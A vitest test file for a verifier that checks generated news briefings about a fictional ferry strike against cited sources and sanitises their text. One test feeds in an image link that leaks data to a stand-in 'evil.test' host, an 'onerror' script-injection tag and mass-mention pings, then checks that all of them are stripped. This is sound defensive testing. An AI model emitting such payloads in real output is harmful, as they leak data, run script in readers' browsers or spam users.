// The shared grounding verifier: figures, dates and names must be in a cited source (with normal
// variation), links that are not a source's go, mentions and markup are defused, lengths bounded.
import { describe, expect, it } from 'vitest';
import type { Briefing } from '../../src/domain/types.js';
import { describeFailures, dropFailing, normaliseNumber, sanitizeText, verifyBriefing, type VerifySource } from '../../src/brief/verify.js';
import { briefExtractive } from '../../src/brief/extractive.js';

const SOURCES: VerifySource[] = [
  {
    n: 1,
    url: 'https://harbour.test/news/ferry-strike',
    title: 'Ferry crews in Port Calder walk out',
    outlet: 'Harbour Post',
    text: 'Ferry crews in Port Calder began a strike on 6 June, halting 1,200 daily crossings. Union leader Marta Ilves said talks with the Calder Ferry Company had failed. The company offered a 3.5 percent raise.',
  },
  {
    n: 2,
    url: 'https://coast.test/ferries',
    title: 'Calder ferries stopped',
    outlet: 'Coast Daily',
    text: 'The Turkish operator Anatolia Lines offered to lend two vessels. Ilves told reporters that the strike could last three weeks. Officials in Türkiye declined to comment.',
  },
];

function briefing(over: Partial<Briefing> = {}): Briefing {
  return {
    headline: 'Ferry crews in Port Calder walk out',
    lede: 'Ferry crews in Port Calder began a strike on June 6.',
    takeaways: [
      { text: 'The strike halted 1200 daily crossings.', sources: [1] },
      { text: 'Marta Ilves said talks with the Calder Ferry Company failed.', sources: [1] },
      { text: 'Anatolia Lines offered two vessels; Ilves said it could last 3 weeks.', sources: [2] },
    ],
    whyItMatters: 'The company offered a 3.5 percent raise.',
    actors: [{ name: 'Marta Ilves', kind: 'person', role: 'union leader' }],
    sources: SOURCES.map((s) => ({ n: s.n, title: s.title!, outlet: s.outlet, url: s.url })),
    ...over,
  };
}

describe('grounding verifier', () => {
  it('accepts a grounded briefing with normal variation: 1,200 = 1200, "June 6" = "6 June", "three" = 3, a surname', () => {
    const v = verifyBriefing(briefing(), SOURCES);
    expect(v.failures).toEqual([]);
    expect(normaliseNumber('1,000')).toBe(normaliseNumber('1000'));
  });

  it('flags an invented figure, date and name, each against the sources the takeaway cites', () => {
    const v = verifyBriefing(
      briefing({
        lede: 'Ferry crews began a strike on June 9.',
        takeaways: [
          { text: 'The strike halted 4,500 daily crossings.', sources: [1] },
          { text: 'Governor Pieter Vos called for calm.', sources: [1] },
          // Anatolia Lines is in source 2, not in the one cited.
          { text: 'Anatolia Lines offered two vessels.', sources: [1] },
          { text: 'Crews walked out.', sources: [] },
          { text: 'Crews walked out.', sources: [7] },
        ],
      }),
      SOURCES,
    );
    const got = v.failures.map((f) => `${f.field}${f.index ?? ''}:${f.kind}:${f.value}`);
    expect(got).toEqual(
      expect.arrayContaining(['lede:date:June 9', 'takeaway0:number:4,500', 'takeaway1:name:Governor Pieter Vos', 'takeaway2:name:Anatolia Lines', 'takeaway3:citation:cites no source', 'takeaway4:citation:cites no such source: [7]']),
    );
    expect(describeFailures(v.failures).join('\n')).toContain('the figure "4,500" is not in the sources it cites');
  });

  it("accepts another name of the same actor from the actor table (Turkey for the sources' Türkiye)", () => {
    const v = verifyBriefing(briefing({ whyItMatters: 'Officials in Turkey declined to comment.' }), SOURCES);
    expect(v.failures).toEqual([]);
  });

  it("grounds a source's publication date, exempts sentence-opening function words, and still checks a name opening a sentence", () => {
    const dated = SOURCES.map((s) => ({ ...s, publishedAt: '2031-06-06T08:00:00Z' }));
    const v = verifyBriefing(briefing({ lede: 'Separately, crews walked out on June 6, 2031.', whyItMatters: 'Meanwhile the company offered a 3.5 percent raise.' }), dated);
    expect(v.failures).toEqual([]);
    const w = verifyBriefing(briefing({ whyItMatters: 'Italy offered to help.' }), dated);
    expect(w.failures.map((f) => f.value)).toEqual(['Italy']);
  });

  it('removes links that are not a source URL, markdown images, HTML, and defuses mentions', () => {
    const v = verifyBriefing(
      briefing({
        lede: 'Crews struck @everyone <@123456789012345678> <!channel> ![x](https://evil.test/leak?d=secret) see [details](https://evil.test/a) and https://harbour.test/news/ferry-strike <img src=x onerror=alert(1)>',
      }),
      SOURCES,
    );
    const lede = v.briefing.lede;
    expect(lede).not.toMatch(/evil\.test|<|>|!\[|@everyone|<!channel>/);
    expect(lede).toContain('@\u200beveryone');
    expect(lede).toContain('details');
    expect(lede).toContain('https://harbour.test/news/ferry-strike');
    expect(v.removedLinks).toEqual(expect.arrayContaining(['https://evil.test/a']));
    // Sanitising is idempotent (every briefing may pass the verifier more than once).
    expect(verifyBriefing(v.briefing, SOURCES).briefing.lede).toBe(lede);
    expect(sanitizeText('hidden @\u200beve\u200bryone ping', new Set(), 100)).toBe('hidden @\u200beveryone ping');
  });

  it('bounds lengths and flattens block markup', () => {
    const long = 'word '.repeat(500);
    expect(sanitizeText(long, new Set(), 100).length).toBeLessThanOrEqual(100);
    expect(sanitizeText('# Heading\n```\ncode```', new Set(), 100)).toBe('Heading code');
    const v = verifyBriefing(briefing({ takeaways: Array.from({ length: 9 }, () => ({ text: 'Crews walked out.', sources: [1] })) }), SOURCES);
    expect(v.briefing.takeaways).toHaveLength(5);
  });

  it('drops the failing points: failing takeaways, failing sentences, a failing headline from the fallback', () => {
    const v = verifyBriefing(
      briefing({
        headline: 'Zanzibar ferries strike',
        takeaways: [...briefing().takeaways, { text: 'Losses reached $9 million.', sources: [1] }],
        whyItMatters: 'The company offered a 3.5 percent raise. Mayor Olga Brandt warned of chaos.',
      }),
      SOURCES,
    );
    const kept = dropFailing(v, SOURCES, { headline: 'Ferry crews walk out', lede: 'x' });
    expect(kept.headline).toBe('Ferry crews walk out');
    expect(kept.takeaways).toHaveLength(3);
    expect(kept.whyItMatters).toBe('The company offered a 3.5 percent raise.');
    expect(verifyBriefing(kept, SOURCES).failures).toEqual([]);
  });

  it("passes the extractive engine's own briefing without a failure", () => {
    const articles = SOURCES.map((s) => ({ id: s.n, title: s.title!, outlet: s.outlet, url: s.url, text: s.text }));
    const b = briefExtractive({ articles });
    const v = verifyBriefing(b, SOURCES);
    expect(v.failures).toEqual([]);
    expect(v.briefing.takeaways).toEqual(b.takeaways);
  });
});
